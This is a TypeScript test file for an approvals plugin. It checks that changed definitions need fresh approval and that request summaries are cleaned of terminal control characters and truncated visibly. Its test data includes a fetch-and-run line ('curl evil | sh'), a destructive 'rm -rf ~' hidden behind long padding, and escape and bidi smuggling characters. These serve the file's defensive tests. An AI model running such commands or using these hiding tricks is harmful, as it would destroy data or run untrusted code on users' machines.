import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createGateway } from "../../../core/mod.ts";
import { approvals, createApprovalStore } from "../../../plugins/approvals/mod.ts";
import { memoryStore } from "../../../plugins/lib/memory-store.ts";
import { catchFailure } from "../../support/failure.ts";
import { lastingStore, provideState } from "../../support/services.ts";

describe("an approval", () => {
  test("is pending until it is given", async () => {
    const book = createApprovalStore(memoryStore());
    expect(await book.status("server", "db", "h1")).toBe("pending");
    await book.request("server", "db", "h1", "npx db");
    expect(await book.status("server", "db", "h1")).toBe("pending");
    await book.approve("server", "db", "h1");
    expect(await book.status("server", "db", "h1")).toBe("approved");
  });

  test("is given to one definition: a changed one asks again, and the old one no longer counts", async () => {
    const book = createApprovalStore(memoryStore());
    await book.approve("server", "db", "h1");
    expect(await book.status("server", "db", "h2")).toBe("changed");
    await book.request("server", "db", "h2", "npx db --all");
    expect(await book.status("server", "db", "h1")).toBe("approved");
    await book.approve("server", "db", "h2");
    expect(await book.status("server", "db", "h2")).toBe("approved");
    expect(await book.status("server", "db", "h1")).toBe("changed");
  });

  test("applies to the definition that the user saw, though it has changed since", async () => {
    const book = createApprovalStore(memoryStore());
    await book.request("server", "db", "seen", "npx db");
    await book.request("server", "db", "slipped-in", "curl evil | sh");
    await book.approve("server", "db", "seen");
    expect(await book.status("server", "db", "slipped-in")).toBe("changed");
    expect(await book.list()).toMatchObject([
      {
        status: "changed",
        approved: { hash: "seen" },
        requested: { hash: "slipped-in", summary: "curl evil | sh" },
      },
    ]);
  });

  test("is for one kind and one name", async () => {
    const book = createApprovalStore(memoryStore());
    await book.approve("server", "db", "h1");
    expect(await book.status("tool", "db", "h1")).toBe("pending");
    expect(await book.status("server", "db2", "h1")).toBe("pending");
  });

  test("that is revoked is pending again, and is forgotten", async () => {
    const book = createApprovalStore(memoryStore());
    await book.approve("server", "db", "h1");
    expect(await book.revoke("server", "db")).toBe(true);
    expect(await book.status("server", "db", "h1")).toBe("pending");
    expect(await book.revoke("server", "db")).toBe(false);
    expect(await book.list()).toEqual([]);
  });

  test("never mixes up two names, whatever is in them", async () => {
    const text = fc.oneof(fc.string({ maxLength: 6 }), fc.constantFrom('","', "a/b", "/", "", "\ud800"));
    await fc.assert(
      fc.asyncProperty(fc.tuple(text, text), fc.tuple(text, text), async (one, other) => {
        const book = createApprovalStore(memoryStore());
        await book.approve(...one, "h");
        const same = one[0] === other[0] && one[1] === other[1];
        expect(await book.status(...other, "h")).toBe(same ? "approved" : "pending");
      }),
    );
  });

  test("needs a hash", async () => {
    const book = createApprovalStore(memoryStore());
    expect((await catchFailure(book.approve("server", "db", ""))).message).toContain("needs the hash");
    expect((await catchFailure(book.request("server", "db", "", "x"))).message).toContain("needs the hash");
    expect(await book.list()).toEqual([]);
  });
});

describe("a request", () => {
  test("is listed with its summary, and so is the approval that follows it", async () => {
    const book = createApprovalStore(memoryStore());
    await book.request("server", "db", "h1", "npx db");
    await book.request("server", "api", "h2", "https://api.example");
    const before = await book.list();
    expect(before.map(({ name, status, requested }) => [name, status, requested?.summary])).toEqual([
      ["api", "pending", "https://api.example"],
      ["db", "pending", "npx db"],
    ]);
    await book.approve("server", "db", "h1");
    const [, db] = await book.list();
    expect(db).toMatchObject({ status: "approved", approved: { hash: "h1", summary: "npx db" } });
    expect(db?.requested).toBeUndefined();
    expect(Number.isNaN(Date.parse(String(db?.approved?.at)))).toBe(false);
  });

  test("that is known already, or approved already, writes nothing", async () => {
    const store = memoryStore();
    const book = createApprovalStore(store);
    await book.request("server", "db", "h1", "npx db");
    const version = async (): Promise<string | undefined> => (await store.list("approvals/"))[0]?.version;
    const first = await version();
    await book.request("server", "db", "h1", "npx db");
    expect(await version()).toBe(first);
    await book.approve("server", "db", "h1");
    const second = await version();
    await book.request("server", "db", "h1", "npx db");
    expect(await version()).toBe(second);
  });

  test("for what was approved withdraws a change that is no longer wanted", async () => {
    const book = createApprovalStore(memoryStore());
    await book.approve("server", "db", "h1");
    await book.request("server", "db", "h2", "changed");
    await book.request("server", "db", "h1", "back again");
    expect(await book.list()).toMatchObject([{ status: "approved", approved: { hash: "h1" } }]);
    expect((await book.list())[0]).not.toHaveProperty("requested");
  });

  test("cannot control the terminal that prints its summary", async () => {
    const book = createApprovalStore(memoryStore());
    await book.request("server", "db", "h1", "npx\u001b[2J db\n\u202egpj.sh\u0000\u200b   --flag");
    expect((await book.list())[0]?.requested?.summary).toBe("npx [2J db gpj.sh --flag");
  });

  test("cannot hide the end of its summary behind a long middle", async () => {
    const book = createApprovalStore(memoryStore());
    await book.request("server", "db", "h1", `npx db ${"x".repeat(5_000)}; rm -rf ~`);
    const summary = String((await book.list())[0]?.requested?.summary);
    expect(summary.length).toBeLessThan(1_100);
    expect(summary).toMatch(/^npx db x+ … \(4017 more characters\) … x+; rm -rf ~$/);
  });

  test("accepts only strings, so that no definition with its secrets is kept by mistake", async () => {
    const store = memoryStore();
    const definition = { command: "npx", env: { TOKEN: "secret" } } as unknown as string;
    expect(
      (await catchFailure(createApprovalStore(store).request("server", "db", "h1", definition))).code,
    ).toBe("INTERNAL");
    expect(await store.list("")).toEqual([]);
  });
});

describe("the store of approvals", () => {
  test("lives in the state, and is shared by those who use the same one", async () => {
    const store = lastingStore();
    await createApprovalStore(store).approve("server", "db", "h1");
    expect(await createApprovalStore(store).status("server", "db", "h1")).toBe("approved");
  });

  test("takes what it cannot understand for not approved", async () => {
    const store = memoryStore();
    await store.setIfAbsent('approvals/["server","db"]', { approved: { hash: ["h1"] } });
    await store.setIfAbsent('approvals/["server","other"]', {
      kind: "server",
      name: "db",
      approved: { hash: "h1", summary: "", at: "" },
    });
    const book = createApprovalStore(store);
    expect(await book.status("server", "db", "h1")).toBe("pending");
    expect(await book.list()).toEqual([]);
    await book.approve("server", "db", "h1");
    expect(await book.status("server", "db", "h1")).toBe("approved");
  });

  test("loses none of many that come at the same time", async () => {
    const book = createApprovalStore(memoryStore());
    await Promise.all([
      ...Array.from({ length: 5 }, (_, index) => book.request("server", "db", `h${index}`, `${index}`)),
      book.approve("server", "db", "mine"),
    ]);
    expect(await book.status("server", "db", "mine")).toBe("approved");
    expect((await book.list())[0]?.status).toBe("changed");
  });
});

describe("the plugin", () => {
  test("offers approvals in the state of its gateway", async () => {
    const store = memoryStore();
    const gateway = await createGateway({ plugins: [approvals(), provideState(store)] });
    await gateway.services.approvals?.approve("server", "db", "h1");
    expect(await createApprovalStore(store).status("server", "db", "h1")).toBe("approved");
    await gateway.close();
  });

  test("needs the state", async () => {
    expect((await catchFailure(createGateway({ plugins: [approvals()] }))).message).toContain(
      'needs the service "state", which no plugin provides. Add the plugin "state"',
    );
  });
});
